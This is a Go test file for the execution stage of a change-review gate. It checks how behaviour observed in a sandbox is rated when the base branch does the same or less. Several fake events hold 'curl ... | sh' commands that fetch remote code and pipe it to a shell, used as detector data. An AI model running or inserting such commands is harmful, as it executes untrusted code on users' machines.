package execute_test

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/execute"
	"github.com/aigate/gate/sandbox"
)

func TestBehaviourOfTestsOnTheBaseIsANote(t *testing.T) {
	pipe := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
	other := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.net/y | sh"}, Count: 1}
	late := sandbox.Capture{Path: "/tmp/late.py", Data: []byte("print('late')")}
	more := sandbox.Capture{Path: "/tmp/more.py", Data: []byte("print('more')")}
	tests := "def test(): pass\n"
	behaves := func(captures []sandbox.Capture, events ...sandbox.Event) sandbox.Behaviour {
		return sandbox.Behaviour{Recorder: "fake", Events: events, Captures: captures}
	}
	for name, tt := range map[string]struct {
		base       map[string]string
		head, then sandbox.Behaviour // of the tests
		worst      gate.Severity
		children   int
	}{
		"the same":                  {map[string]string{"a.py": "print(0)\n", "test_a.py": tests}, behaves([]sandbox.Capture{late}, pipe), behaves([]sandbox.Capture{late}, pipe), gate.SeverityNote, 0},
		"something else as well":    {map[string]string{"a.py": "print(0)\n", "test_a.py": tests}, behaves([]sandbox.Capture{late, more}, pipe, other), behaves([]sandbox.Capture{late}, pipe), gate.SeverityDangerous, 1},
		"the base does less":        {map[string]string{"a.py": "print(0)\n", "test_a.py": tests}, behaves([]sandbox.Capture{late}, pipe), behaves(nil), gate.SeverityDangerous, 1},
		"the base has no such test": {map[string]string{"a.py": "print(0)\n"}, behaves([]sandbox.Capture{late}, pipe), behaves([]sandbox.Capture{late}, pipe), gate.SeverityDangerous, 1},
		"there is no base":          {nil, behaves([]sandbox.Capture{late}, pipe), behaves([]sandbox.Capture{late}, pipe), gate.SeverityDangerous, 1},
	} {
		t.Run(name, func(t *testing.T) {
			r := &fakeRunner{}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				res := sandbox.Result{Status: sandbox.Exited, Behaviour: behaves(nil)}
				input, err := unpack(spec)
				if strings.Contains(strings.Join(spec.Argv, " "), "test_a.py") {
					res.Behaviour = tt.head
					if input["a.py"] == tt.base["a.py"] {
						res.Behaviour = tt.then
					}
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions = 0 })
			change := changeOf(files(map[string]string{"a.py": program, "test_a.py": tests}), "a.py")
			if tt.base != nil {
				change.Base = files(tt.base)
			}
			out, found := executions(t, s, change)
			if got := found.Worst("a.py"); got != tt.worst || len(out.Derived) != tt.children {
				t.Errorf("%v with %d pieces of code, want %v with %d: %+v", got, len(out.Derived), tt.worst, tt.children, found.Of("a.py"))
			}
			if tt.worst == gate.SeverityNote && !strings.HasSuffix(found.Of("a.py")[0].Evidence, "on the base they do the same") {
				t.Errorf("%+v", found.Of("a.py"))
			}
		})
	}
}

func TestBehaviourOfAFileOnTheBaseIsANote(t *testing.T) {
	pipe := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
	other := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.net/y | sh"}, Count: 1}
	const module, edited = "def f():\n    return 0\n", "def f():\n    return 1\n"
	imports, calls := 1, 2 // which run of a module it is
	for name, tt := range map[string]struct {
		path, before, after string
		head, base          []sandbox.Event
		at                  int // the run that does it, 0 for each
		worst               gate.Severity
	}{
		"a program, the same":                    {"a.py", "print(0)\n", program, []sandbox.Event{pipe}, []sandbox.Event{pipe}, 0, gate.SeverityNote},
		"a program, something else":              {"a.py", "print(0)\n", program, []sandbox.Event{other}, []sandbox.Event{pipe}, 0, gate.SeverityDangerous},
		"a program, something else as well":      {"a.py", "print(0)\n", program, []sandbox.Event{pipe, other}, []sandbox.Event{pipe}, 0, gate.SeverityDangerous},
		"a program that did nothing":             {"a.py", "print(0)\n", program, []sandbox.Event{pipe}, nil, 0, gate.SeverityDangerous},
		"a program that is new":                  {"a.py", "", program, []sandbox.Event{pipe}, []sandbox.Event{pipe}, 0, gate.SeverityDangerous},
		"a module when it is imported, the same": {"m.py", module, edited, []sandbox.Event{pipe}, []sandbox.Event{pipe}, imports, gate.SeverityNote},
		"functions, the same":                    {"m.py", module, edited, []sandbox.Event{pipe}, []sandbox.Event{pipe}, calls, gate.SeverityNote},
		"functions that did nothing":             {"m.py", module, edited, []sandbox.Event{pipe}, nil, calls, gate.SeverityDangerous},
	} {
		t.Run(name, func(t *testing.T) {
			var mu sync.Mutex
			runs := map[bool]int{} // of the head and of the base
			r := &fakeRunner{}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				input, err := unpack(spec)
				text, ok := input[tt.path]
				res := sandbox.Result{Status: sandbox.Exited, Behaviour: sandbox.Behaviour{Recorder: "fake"}}
				if !ok {
					return res, err
				}
				mu.Lock()
				defer mu.Unlock()
				head := text == tt.after
				if runs[head]++; tt.at == 0 || runs[head] == tt.at {
					if res.Behaviour.Events = tt.base; head {
						res.Behaviour.Events = tt.head
					}
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions = 0 })
			change := changeOf(files(map[string]string{tt.path: tt.after, "other.py": program}), tt.path)
			change.Base = files(map[string]string{"other.py": program})
			if tt.before != "" {
				change.Base = files(map[string]string{tt.path: tt.before, "other.py": program})
			}
			_, found := executions(t, s, change)
			if got := found.Worst(tt.path); got != tt.worst {
				t.Errorf("%v, want %v, runs %v: %+v", got, tt.worst, runs, found.Of(tt.path))
			}
		})
	}
}

func TestConditionalBehaviourOnTheBaseIsANote(t *testing.T) {
	elsewhere := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
	const before, after = "import os\nif os.environ.get('CI'):\n    print(0)\n", "import os\nif os.environ.get('CI'):\n    print(1)\n"
	for name, tt := range map[string]struct {
		base  []sandbox.Event
		worst gate.Severity
	}{
		"the same":                {[]sandbox.Event{elsewhere}, gate.SeverityNote},
		"the base does not do it": {nil, gate.SeverityDangerous},
	} {
		t.Run(name, func(t *testing.T) {
			conditioned := 0
			r := &fakeRunner{}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				input, err := unpack(spec)
				res := sandbox.Result{Status: sandbox.Exited, Behaviour: sandbox.Behaviour{Recorder: "fake"}}
				if slices.ContainsFunc(spec.Env, func(v string) bool { return strings.HasPrefix(v, "CI=") }) {
					conditioned++
					if res.Behaviour.Events = tt.base; input["a.py"] == after {
						res.Behaviour.Events = []sandbox.Event{elsewhere}
					}
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions, o.Parallel = 2, 1 })
			change := changeOf(files(map[string]string{"a.py": after}), "a.py")
			change.Base = files(map[string]string{"a.py": before})
			_, found := executions(t, s, change)
			if got := found.Worst("a.py"); got != tt.worst || conditioned != 2 {
				t.Errorf("%v, want %v, %d runs with the condition: %+v", got, tt.worst, conditioned, found.Of("a.py"))
			}
		})
	}
}

func TestCodeOfSlowTestsIsComparedWhereItIsTooMuchToBeLookedAt(t *testing.T) {
	pieces := func(n int) (out []sandbox.Capture) {
		for i := range n {
			out = append(out, sandbox.Capture{Path: fmt.Sprintf("/tmp/piece%d.sh", i), Data: fmt.Appendf(nil, "#!/bin/sh\necho %d\n", i)})
		}
		return out
	}
	for name, tt := range map[string]struct {
		head, base int // pieces of code that appear
		runs       int // of the tests
		gap        bool
	}{
		"the same":                   {12, 12, 2, false},
		"more than on the base":      {24, 12, 2, true},
		"as much as is looked at":    {8, 8, 1, false},
		"the base's tests make none": {12, 0, 2, true},
	} {
		t.Run(name, func(t *testing.T) {
			runs := 0
			r := &fakeRunner{}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				res := sandbox.Result{Status: sandbox.Exited, Behaviour: sandbox.Behaviour{Recorder: "fake"}}
				input, err := unpack(spec)
				if strings.Contains(strings.Join(spec.Argv, " "), "test_a.py") {
					runs++
					res.Duration, res.Behaviour.Captures = 20*time.Second, pieces(tt.head)
					if input["a.py"] == "print(0)\n" {
						res.Behaviour.Captures = pieces(tt.base)
					}
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions, o.Parallel = 0, 1 })
			tests := "def test(): pass\n"
			change := changeOf(files(map[string]string{"a.py": program, "test_a.py": tests}), "a.py")
			change.Base = files(map[string]string{"a.py": "print(0)\n", "test_a.py": tests})
			out, _ := executions(t, s, change)
			if got := len(out.Incomplete) > 0; got != tt.gap || runs != tt.runs {
				t.Errorf("%d runs, incomplete %v", runs, out.Incomplete)
			}
		})
	}
}

func TestCodeThatAFileMakesIsComparedWithTheBase(t *testing.T) {
	piece := func(text string) []sandbox.Capture {
		return []sandbox.Capture{{Path: "/tmp/piece.sh", Data: []byte("#!/bin/sh\necho " + text + "\n")}}
	}
	for name, tt := range map[string]struct {
		base     string
		children int
	}{
		"the base makes the same":  {"new", 0},
		"the base makes something": {"old", 1},
	} {
		t.Run(name, func(t *testing.T) {
			r := &fakeRunner{}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				res := sandbox.Result{Status: sandbox.Exited, Behaviour: sandbox.Behaviour{Recorder: "fake", Captures: piece("new")}}
				input, err := unpack(spec)
				if input["a.py"] == "print(0)\n" {
					res.Behaviour.Captures = piece(tt.base)
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions = 0 })
			change := changeOf(files(map[string]string{"a.py": program}))
			change.Base = files(map[string]string{"a.py": "print(0)\n"})
			if out, _ := executions(t, s, change); len(out.Derived) != tt.children {
				t.Errorf("%d pieces of code, want %d", len(out.Derived), tt.children)
			}
		})
	}
}

func TestTestsThatEndOnTheBaseAsWellAreANote(t *testing.T) {
	for name, tt := range map[string]struct {
		head, base sandbox.Status
		worst      gate.Severity
	}{
		"no memory on either":     {sandbox.OOM, sandbox.OOM, gate.SeverityNote},
		"no memory on the head":   {sandbox.OOM, sandbox.Exited, gate.SeveritySuspicious},
		"another end on the base": {sandbox.OOM, sandbox.Killed, gate.SeveritySuspicious},
	} {
		t.Run(name, func(t *testing.T) {
			r := &fakeRunner{}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				res := sandbox.Result{Status: sandbox.Exited}
				input, err := unpack(spec)
				if strings.Contains(strings.Join(spec.Argv, " "), "test_a.py") {
					if res.Status = tt.head; input["a.py"] == "print(0)\n" {
						res.Status = tt.base
					}
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions = 0 })
			tests := "def test(): pass\n"
			change := changeOf(files(map[string]string{"a.py": program, "test_a.py": tests}), "a.py")
			change.Base = files(map[string]string{"a.py": "print(0)\n", "test_a.py": tests})
			_, found := executions(t, s, change)
			if got := found.Worst("a.py"); got != tt.worst {
				t.Errorf("%v, want %v: %+v", got, tt.worst, found.Of("a.py"))
			}
		})
	}
}

func TestTestsThatAreAsSlowOnTheBaseAreANote(t *testing.T) {
	const tests = "def test_1(): pass\n\n\ndef test_2(): pass\n"
	const old = "print(0)\n"
	told := func(left string) *string { s := `{"running": [], "total": 3, "ended": 1, ` + left + `}`; return &s }
	left, done := told(`"near": false, "edited": true`), told(`"near": true`)
	for name, tt := range map[string]struct {
		head, base *string // what tests tell at the end of their time, nil where they end before
		paths      []string
		all        bool // every line of the tests is new
		untold     bool // the tests are ended before they tell which lines ran
		gap        bool
	}{
		"on either":                                  {head: left, base: left},
		"with edited tests that ended":               {head: left, base: left, paths: []string{"a.py", "test_a.py"}},
		"on the head only":                           {head: left, gap: true},
		"the base's nearest had ended":               {head: left, base: done, gap: true},
		"new code was running":                       {head: told(`"near": true, "running": ["a.py"]`), base: left, gap: true},
		"an edited test had not ended":               {head: told(`"near": false, "edited": false`), base: left, paths: []string{"a.py", "test_a.py"}, gap: true},
		"no line of the change is known to have run": {head: left, base: left, untold: true, gap: true},
		"all tests of the file are of the change":    {head: left, base: left, paths: []string{"a.py", "test_a.py"}, all: true, gap: true},
	} {
		t.Run(name, func(t *testing.T) {
			r := &fakeRunner{silent: tt.untold}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				res := sandbox.Result{Status: sandbox.Exited}
				input, err := unpack(spec)
				if strings.Contains(strings.Join(spec.Argv, " "), "test_a.py") {
					says := tt.head
					if input["a.py"] == old {
						says = tt.base
					}
					if says != nil {
						res.Duration = time.Minute
						res.Files = []sandbox.File{{Path: ".gate-coverage/tests-running-1", Data: []byte(*says)}}
						if !tt.untold {
							res.Files = append(res.Files, sandbox.File{Path: ".gate-coverage/python-1.json", Data: []byte(`{"files": {"a.py": [[1], [1]]}}`)})
						}
					}
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) {
				o.Policy.Conditions, o.Required, o.Policy.TestTimeout = 0, true, time.Minute
			})
			change := changeOf(files(map[string]string{"a.py": program, "test_a.py": tests}), append(tt.paths, "a.py")[:max(1, len(tt.paths))]...)
			for _, target := range change.Targets {
				if target.Path == "test_a.py" && !tt.all {
					target.Lines = gate.OnlyLines(gate.LineRange{1, 1})
				}
			}
			change.Base = files(map[string]string{"a.py": old, "test_a.py": tests})
			out, _ := executions(t, s, change)
			if got := len(out.Incomplete) > 0; got != tt.gap {
				t.Errorf("incomplete: %v, want %v", out.Incomplete, tt.gap)
			}
			var notes []string
			for _, u := range out.Executions["a.py"].Units {
				notes = append(notes, u.Reason)
			}
			if said := strings.Contains(strings.Join(notes, "\n"), "on the base they had not either"); said == tt.gap {
				t.Errorf("%q", notes)
			}
		})
	}
}
